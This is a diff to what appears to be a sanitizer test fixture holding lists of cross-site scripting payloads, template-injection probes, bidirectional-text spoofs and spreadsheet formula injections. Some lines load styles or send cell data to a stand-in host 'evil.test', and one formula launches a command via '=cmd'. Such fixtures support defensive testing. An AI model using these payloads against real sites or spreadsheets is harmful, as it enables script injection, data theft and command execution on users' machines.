@@ -46,7 +46,8 @@ xlink:href="javascript:{RUN}"><text>a</text></a><animate onbegin={RUN} attribute
     "malformed tags": f"""<<script>{RUN}//<</script> <img \"\"\"><script>{RUN}</script>"> <IMG
 SRC=x onerror\n=\n"{RUN}" <a href='x' onclick='{RUN}'a <script\x0b>{RUN}</script> <\x00script>{RUN}
 <%<!--'%><script>{RUN}</script --> <!--[if gte IE 4]><script>{RUN}</script><![endif]-->
-<img/src=x/onerror={RUN}> <\u200bscript>{RUN} \uff1cscript\uff1e{RUN}\uff1c/script\uff1e <? echo('<scr)'; ?>""",
+<img/src=x/onerror={RUN}> <\u200bscript>{RUN} \uff1cscript\uff1e{RUN}\uff1c/script\uff1e
+<? echo('<scr)'; ?>""",
     "styles": f"""<style>@import '//evil.test/x.css'; body{{background:url(//evil.test/y)}}</style>
 <div style="background:url(//evil.test/z);width:expression({RUN})">a</div>
 <link rel=stylesheet href=//evil.test/w.css> <p style=position:fixed;inset:0>b</p>""",
@@ -72,13 +73,15 @@ content="0;url=//evil.test/m"><form action=//evil.test/f><button>a</button></for
 `<img src=x onerror={RUN}>` <p>|<script>{RUN}</script>|
 |--|
 |<img src=x onerror={RUN}>|""",
-    "templates": f"""{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} {{% load x %}}{{{{ 7*7 }}}}
-<%= 7*7 %> #{{7*7}} [[${{7*7}}]] {{{{'a'.constructor.prototype.charAt=[].join}}}} 
+    "templates": f"""{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} {{% load x %}}
+{{{{ 7*7 }}}}
+<%= 7*7 %> #{{7*7}} [[${{7*7}}]] {{{{'a'.constructor.prototype.charAt=[].join}}}}
 {{!!{RUN}!!}}""",
     "tokens": f"""<@U0ANA|<img src=x onerror={RUN}>> <#C0GENERAL|"><script>{RUN}</script>>
 <https://x.test/"onmouseover="{RUN}|"><svg onload={RUN}>> <mailto:a@x.test"onclick="{RUN}|b>
 <https://x.test|https://evil.test> <!subteam^S1|<script>{RUN}</script>>""",
-    "bidi": f"""\u202e<script>{RUN}</script>\u202c \u2066"onload="{RUN}\u2069 \u200f<svg/onload={RUN}>
+    "bidi": f"""\u202e<script>{RUN}</script>\u202c \u2066"onload="{RUN}\u2069 \u200f
+<svg/onload={RUN}>
 \ufeff<script>{RUN}</script> 👩\u200d🚒<img src=x onerror={RUN}>""",
     "formulas": """=HYPERLINK("http://evil.test/?"&A1,"x") =cmd|' /C calc'!A0
 +1+1 -2+3 @SUM(1+1)""",
